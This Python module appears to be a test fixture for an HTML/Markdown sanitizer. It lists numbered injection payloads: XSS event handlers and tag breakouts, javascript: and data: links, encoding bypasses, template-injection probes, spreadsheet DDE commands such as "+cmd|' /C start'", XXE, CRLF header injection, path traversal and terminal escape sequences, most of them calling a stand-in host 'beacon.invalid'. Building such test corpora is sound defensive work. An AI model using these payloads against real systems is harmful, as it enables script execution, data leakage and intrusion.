"""What nobody may get to run, ask for or lead away to by writing it: each a different way in, all our own.

Every script tells on itself. It calls `ran`, opens a dialog or a window, leads to or asks for BEACON, or
moves the cursor of a terminal; ‡ stands for its number.
"""

from __future__ import annotations

BEACON = "http://beacon.invalid/"

TEXT, QUOTED, APOSTROPHED, BARE, TEXTAREA, TITLE, STYLE, ISLAND, COMMENT, SVG = (
    "<p>{}</p>",
    '<input value="{}">',
    "<input value='{}'>",
    "<input value={}>",
    "<textarea>{}</textarea>",
    "<svg><title>{}</title></svg>",
    "<style>{}</style>",
    '<script type="application/json">{{"words": "{}"}}</script>',
    "<!-- {} -->",
    "<svg><text>{}</text></svg>",
)
"""Careless markup: where a script would come to life if it were put there as it is."""

LOUD: dict[str, tuple[str, str]] = {
    "an image that fails": (TEXT, "<img src=x onerror=ran(‡)>"),
    "an image from elsewhere": (TEXT, "<img src=http://beacon.invalid/‡>"),
    "an image without spaces": (TEXT, "<img/src='x'/onerror=ran(‡)>"),
    "a drawing that loads": (TEXT, "<svg onload=ran(‡)>"),
    "a drawing with a script": (TEXT, "<svg><image href=x onerror=ran(‡)></image></svg>"),
    "an animation that begins": (
        TEXT,
        "<svg><animate onbegin=ran(‡) attributeName=x dur=1s></animate></svg>",
    ),
    "a foreign object": (SVG, "<foreignObject><img src=x onerror=ran(‡)></foreignObject>"),
    "a drawing that uses another": (TEXT, "<svg><use href=http://beacon.invalid/‡#x></use></svg>"),
    "details that open": (TEXT, "<details open ontoggle=ran(‡)>more</details>"),
    "a film that fails": (TEXT, "<video src=x onerror=alert(‡)></video>"),
    "a sound that fails": (TEXT, "<audio src=x onerror=window.open('http://beacon.invalid/‡')></audio>"),
    "a document in a frame": (TEXT, "<iframe srcdoc='<img src=x onerror=parent.ran(‡)>'></iframe>"),
    "a script in a frame": (TEXT, "<iframe src=javascript:parent.ran(‡)></iframe>"),
    "a page in a frame": (TEXT, "<iframe src=http://beacon.invalid/‡></iframe>"),
    "data in a frame": (TEXT, "<iframe src='data:text/html,<img src=http://beacon.invalid/‡>'></iframe>"),
    "an object": (TEXT, "<object data=http://beacon.invalid/‡></object>"),
    "a plug-in": (TEXT, "<embed src=http://beacon.invalid/‡>"),
    "a sheet from elsewhere": (TEXT, "<link rel=stylesheet href=http://beacon.invalid/‡>"),
    "a style that imports": (TEXT, "<style>@import 'http://beacon.invalid/‡';</style>"),
    "a style with a picture": (TEXT, '<p style="background:url(http://beacon.invalid/‡)">x</p>'),
    "a focus that is taken": (TEXT, "<input autofocus onfocus=ran(‡)>"),
    "an animation that starts": (
        TEXT,
        "<style>@keyframes k{to{left:0}}</style><p style='animation:k 1ms' onanimationend=ran(‡)>x</p>",
    ),
    "a formula of MathML": (TEXT, "<math><mtext><img src=x onerror=ran(‡)></mtext></math>"),
    "a page that leads on": (TEXT, "<meta http-equiv=refresh content='0;url=http://beacon.invalid/‡'>"),
    "a place for words, ended": (TEXTAREA, "</textarea><img src=x onerror=ran(‡)>"),
    "a title, ended": (TITLE, "</title></svg><img src=x onerror=ran(‡)>"),
    "a style, ended": (STYLE, "</style><img src=x onerror=ran(‡)>"),
    "a script, ended": (ISLAND, "</script><img src=x onerror=ran(‡)>"),
    "a template, ended": ("<template>{}</template>", "</template><img src=x onerror=ran(‡)>"),
    "an option, ended": (
        "<select><option>{}</option></select>",
        "</option></select><img src=x onerror=ran(‡)>",
    ),
    "a comment, ended": (COMMENT, "--><img src=x onerror=ran(‡)>"),
    "a drawing, ended": (SVG, "</text></svg><img src=x onerror=ran(‡)>"),
    "a piece of CDATA, ended": ("<svg><![CDATA[{}]]></svg>", "]]></svg><img src=x onerror=ran(‡)>"),
    "a quotation mark, and a handler": (QUOTED, '" autofocus onfocus="ran(‡)'),
    "an apostrophe, and a handler": (APOSTROPHED, "' autofocus onfocus='ran(‡)"),
    "no mark, and a handler": (BARE, "x autofocus onfocus=ran(‡)"),
    "a quotation mark, and an element": (QUOTED, '"><img src=x onerror=ran(‡)>'),
    "a style, and another": ('<p style="--rows:{}">x</p>', "1;background:url(http://beacon.invalid/‡)"),
    "a slash between": (TEXT, "<svg/onload=ran(‡)//"),
    "capitals in odd places": (TEXT, "<ImG sRc=x OnErRoR=ran(‡)>"),
    "a line end within": (TEXT, "<img\nsrc=x\tonerror\n=\nran(‡)>"),
    "a handler spelt in numbers": (TEXT, "<img src=x onerror=&#114;&#97;&#110;(‡)>"),
    "a broken element": (TEXT, "<<img src=x onerror=ran(‡) <b"),
}
"""By name: the careless markup in which it comes to life by itself, and what is written."""

LINKS = {
    "a link with a script": "<a href=javascript:ran(‡)>press</a>",
    "a link in a drawing": "<svg><a xlink:href=http://beacon.invalid/‡><text>press</text></a></svg>",
    "a link that figures take": '<a href="http://beacon.invalid/‡">press</a>',
    "marks that figures take": "<b>bold ‡</b><br><sub>low</sub>",
    "a short mark": "<i>‡</i>",
    "a short line": "<u>‡</u>",
    "a short formula": "$x_{‡}$",
    "a form with a way of its own": "<form action=http://beacon.invalid/‡><button>press</button></form>",
    "a button with a script": "<button formaction=javascript:ran(‡)>press</button>",
    "another base": "<base href=http://beacon.invalid/‡>",
    "a script element": "<script>ran(‡)</script>",
    "a script from elsewhere": "<script src=http://beacon.invalid/‡></script>",
    "a bare script": "javascript:ran(‡)",
    "bare data": "data:text/html,<script>ran(‡)</script>",
    "a Markdown link": "[press](javascript:ran(‡))",
    "a Markdown link of data": "[press](data:text/html;base64,cmFuKDEp)",
    "a Markdown link in disguise": "[press](java&#115;cript:ran(‡))",
    "a Markdown link with a tab": "[press](<java\tscript:ran(‡)>)",
    "a Markdown picture": "![x](http://beacon.invalid/‡)",
    "a Markdown picture with a title": '![x](http://beacon.invalid/‡ "" onerror="ran(‡)")',
    "a Markdown reference": "[press][r‡]\n\n[r‡]: javascript:ran(‡)",
    "a Markdown address": "<javascript:ran(‡)>",
    "an address that becomes a link": "http://beacon.invalid/‡",
    "a letter with another reader": "mailto:a@beacon.invalid?bcc=b@beacon.invalid&body=‡%0d%0aBcc:c",
}
"""What waits to be pressed, or counts only where the page is built: no element may lead there."""

QUIET = {
    "entities": "&lt;img src=x onerror=ran(‡)&gt;",
    "entities twice": "&amp;lt;img src=x onerror=ran(‡)&amp;gt;",
    "numbers for signs": "&#60;img src=x onerror=ran(‡)&#62;",
    "percents for signs": "%3Cimg%20src=x%20onerror=ran(‡)%3E",
    "percents twice": "%253Cimg%2520src=x%2520onerror=ran(‡)%253E",
    "escapes of a script": "\\u003cimg src=x onerror=ran(‡)\\u003e\\x3cb\\x3e",
    "seven bits": "+ADw-img src=x onerror=ran(‡)+AD4-",
    "bytes too long": "\u00c0\u00bcimg src=x onerror=ran(‡)\u00c0\u00be",
    "a zero within": "<im\x00g src=x onerror=ran(‡)>",
    "a style of long ago": "<p style='width:expression(ran(‡))'>x</p>",
    "from right to left": "\u202e>(‡)nar=rorreno x=crs gmi<\u202c",
    "signs that look alike": "＜img src=x onerror=ran(‡)＞ and ‹script›",
    "a formula": "$\\href{javascript:ran(‡)}{x}$ and $$\\unicode{x3c}$$ and \\(x\\)",
    "a template of the server": "{{7*7}} {% import os %} {{ ''.__class__.__mro__ }} ‡",
    "a template of Python": "{0.__class__.__init__.__globals__} {value} %s %(x)s %n ‡",
    "a template of a script": "${ran(‡)} `${ran(‡)}` #{ran(‡)}",
    "the end of a string": '\\"};ran(‡);({"x":"\u2028\u2029',
    "names of a script": "__proto__ constructor.prototype ‡",
    "a formula of tables": '=HYPERLINK("http://beacon.invalid/‡","press")',
    "a command of tables": "+cmd|' /C start'!A‡",
    "a sum of tables": "@SUM(‡+9)*cmd|'x'!A0",
    "a tab before a formula": '\t=WEBSERVICE("http://beacon.invalid/‡")',
    "a difference of tables": "-2+3+cmd|'x'!A‡",
    "a line of a calendar": "x\r\nATTACH:http://beacon.invalid/‡\r\nEND:VEVENT\nBEGIN:VALARM",
    "a folded line of a calendar": "x\r\n URL:http://beacon.invalid/‡\n\tSUMMARY:told",
    "a card": "BEGIN:VCARD\nURL:http://beacon.invalid/‡\nEND:VCARD",
    "an entity from outside": '<!DOCTYPE a [<!ENTITY e SYSTEM "http://beacon.invalid/‡">]><a>&e;</a>',
    "an instruction": '<?xml-stylesheet href="http://beacon.invalid/‡"?>',
    "a line of a tree": "Ro\n1 NOTE told ‡\n1 OBJE\n2 FILE http://beacon.invalid/‡",
    "a header": "x\r\nSet-Cookie: told=‡\r\n\r\n<img src=x onerror=ran(‡)>",
    "a name that climbs": "../../../told-‡",
    "a title for a terminal": "\x1b]0;told ‡\x07\x1b[2J\x1b[31m",
    "a link for a terminal": "\x1b]8;;http://beacon.invalid/‡\x1b\\press\x1b]8;;\x1b\\",
    "a backspace": "told\b\b\b\b‡\x9b31m\x7f",
}
"""What is dangerous for other readers than a page, or to one that decodes once too often."""


def _numbered() -> dict[str, str]:
    texts = {name: text for name, (_, text) in LOUD.items()} | LINKS | QUIET
    return {name: text.replace("‡", str(number)) for number, (name, text) in enumerate(texts.items(), 1)}


SCRIPTS = _numbered()
TEXTS = list(SCRIPTS.values())


def turned(by: int) -> list[str]:
    """Return every script, beginning with another one."""
    by %= len(TEXTS)
    return TEXTS[by:] + TEXTS[:by]
